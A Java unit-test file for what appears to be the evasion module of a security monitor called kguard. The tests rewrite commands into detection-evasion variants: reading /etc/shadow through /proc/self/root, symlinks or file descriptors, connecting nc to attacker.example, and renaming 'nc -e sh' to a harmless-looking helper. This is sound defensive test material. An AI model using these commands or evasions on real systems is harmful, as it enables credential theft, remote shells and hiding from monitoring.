// SPDX-License-Identifier: Apache-2.0
package io.kguard.internal.evasion;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Arrays;
import java.util.EnumSet;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;

/** Which commands an evasion applies to, and what becomes of them. */
class EvasionTest {
    private static final Set<Evasion> OF_FILES = EnumSet.of(
            Evasion.RELATIVE_PATH,
            Evasion.DOTTED_PATH,
            Evasion.PROC_ROOT,
            Evasion.SYMBOLIC_LINK,
            Evasion.HARD_LINK,
            Evasion.INHERITED,
            Evasion.OPEN,
            Evasion.OPENAT,
            Evasion.OPENAT2);

    @Test
    void aFileHasOtherPaths() {
        CommandLine cat = command("cat", "/etc/shadow");
        assertThat(words(Evasion.RELATIVE_PATH, cat))
                .containsExactly("sh", "-c", "cd \"$0\" && exec \"$@\"", "/etc", "cat", "shadow");
        assertThat(words(Evasion.DOTTED_PATH, cat)).containsExactly("cat", "/etc/./../etc/shadow");
        assertThat(words(Evasion.PROC_ROOT, cat)).containsExactly("cat", "/proc/self/root/etc/shadow");
        assertThat(words(Evasion.OPENAT2, cat))
                .containsExactly("/usr/bin/kguard-actor", "read-by", "openat2", "/etc/shadow");
        Rewritten link = Evasion.SYMBOLIC_LINK.rewrite(cat).orElseThrow();
        assertThat(link.preparation())
                .containsExactly(command("sh", "-c", "ln -s \"$0\" /tmp/notes.txt", "/etc/shadow"));
        assertThat(link.command()).isEqualTo(command("cat", "/tmp/notes.txt"));
    }

    @Test
    void aShellsScriptHasNoFile() {
        CommandLine script = command("sh", "-c", "cat /etc/shadow", "/etc/shadow");
        assertThat(Arrays.stream(Evasion.values()).filter(OF_FILES::contains))
                .allSatisfy(evasion -> assertThat(evasion.rewrite(script)).isEmpty());
    }

    @Test
    void onlyReadersTakeADescriptor() {
        assertThat(Evasion.INHERITED.rewrite(command("rm", "/etc/shadow"))).isEmpty();
        assertThat(words(Evasion.INHERITED, command("grep", "root", "/etc/shadow")))
                .containsExactly("sh", "-c", "exec \"$@\" <\"$0\"", "/etc/shadow", "grep", "root");
    }

    @Test
    void anActConnectsAndReadsInOtherWays() {
        CommandLine connects = command("/usr/lib/kguard/nc", "connect", "attacker.example", "443");
        assertThat(words(Evasion.MAPPED_ADDRESS, connects))
                .containsExactly("/usr/lib/kguard/nc", "connect6", "attacker.example", "443");
        assertThat(Evasion.MAPPED_ADDRESS.rewrite(command("nc", "connect", "a", "443")))
                .isEmpty();
        assertThat(words(Evasion.OPEN, command("/usr/bin/kguard-actor", "read", "/etc/shadow")))
                .containsExactly("/usr/bin/kguard-actor", "read-by", "open", "/etc/shadow");
    }

    @Test
    void aProgramRunsUnderOtherNames() {
        Rewritten renamed = Evasion.RENAMED.rewrite(command("nc", "-e", "sh")).orElseThrow();
        assertThat(renamed.command()).isEqualTo(command("/tmp/update/helper", "-e", "sh"));
        assertThat(renamed.preparation().get(0).words()).endsWith("nc").hasSize(4);
    }

    @Test
    void aSecondThreadRunsTheProgramOrMakesTheCall() {
        assertThat(words(Evasion.THREAD, command("/bin/cat", "/etc/shadow")))
                .containsExactly("/usr/bin/kguard-actor", "in-thread", "as", "cat", "/bin/cat", "/etc/shadow");
        assertThat(words(Evasion.THREAD, command("/usr/lib/kguard/nc", "connect", "attacker.example", "443")))
                .containsExactly("/usr/lib/kguard/nc", "in-thread", "connect", "attacker.example", "443");
    }

    private static List<String> words(Evasion evasion, CommandLine command) {
        return evasion.rewrite(command).orElseThrow().command().words();
    }

    private static CommandLine command(String... words) {
        return new CommandLine(List.of(words));
    }
}
